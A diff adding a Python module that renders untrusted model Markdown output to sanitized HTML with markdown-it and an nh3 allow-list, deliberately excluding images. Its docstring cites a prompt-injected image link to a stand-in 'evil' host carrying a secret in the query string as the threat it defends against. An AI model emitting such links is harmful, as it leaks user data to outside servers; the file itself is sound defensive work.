@@ -1,0 +1,74 @@
+"""Model output (untrusted Markdown) to safe HTML.
+
+markdown-it's `js-default` preset does not pass raw HTML through (the
+`commonmark` preset does); nh3 then removes anything outside an allow-list.
+No <img> at all: a prompt-injected `![](https://evil/?q=secret)` would leak data
+to a remote server the moment the page loads. Rendered once when a turn
+finishes and stored, so showing a long conversation does no Markdown work.
+"""
+
+from functools import lru_cache
+from html import escape
+
+import nh3
+from markdown_it import MarkdownIt
+from mdit_py_plugins.tasklists import tasklists_plugin
+from pygments import highlight
+from pygments.formatters import HtmlFormatter
+from pygments.lexers import get_lexer_by_name
+from pygments.util import ClassNotFound
+
+ALLOWED_TAGS = {
+    "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
+    "input", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
+}  # fmt: skip
+ALLOWED_ATTRIBUTES = {
+    "a": {"href", "title"},
+    "code": {"class"},
+    "div": {"class"},
+    "span": {"class"},
+    "pre": {"class", "data-lang"},
+    "input": {"type", "checked", "disabled", "class"},
+    "li": {"class"},
+    "ul": {"class"},
+    "ol": {"start"},
+}
+ALLOWED_URL_SCHEMES = {"http", "https", "mailto"}
+
+
+def _highlight(code: str, lang: str, _attrs) -> str:
+    """Pygments with CSS classes (no inline styles, so the CSP can forbid them)."""
+    try:
+        lexer = get_lexer_by_name(lang.strip().split()[0]) if lang.strip() else None
+    except ClassNotFound:
+        lexer = None
+    if lexer is None:
+        return f'<pre class="code"><code>{escape(code)}</code></pre>'
+    formatter = HtmlFormatter(nowrap=True)
+    label = escape(lexer.name)
+    return (
+        f'<pre class="code highlight" data-lang="{label}"><code class="language-{escape(lang.split()[0])}">'
+        f"{highlight(code, lexer, formatter)}</code></pre>"
+    )
+
+
+@lru_cache(maxsize=1)
+def _markdown() -> MarkdownIt:
+    md = MarkdownIt("js-default", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight})
+    md.enable(["table", "strikethrough"])
+    md.use(tasklists_plugin)
+    return md
+
+
+def markdown_to_html(text: str) -> str:
+    if not text:
+        return ""
+    html = _markdown().render(text)
+    return nh3.clean(
+        html,
+        tags=ALLOWED_TAGS,
+        attributes=ALLOWED_ATTRIBUTES,
+        url_schemes=ALLOWED_URL_SCHEMES,
+        link_rel="noopener noreferrer nofollow",
+        strip_comments=True,
+    )
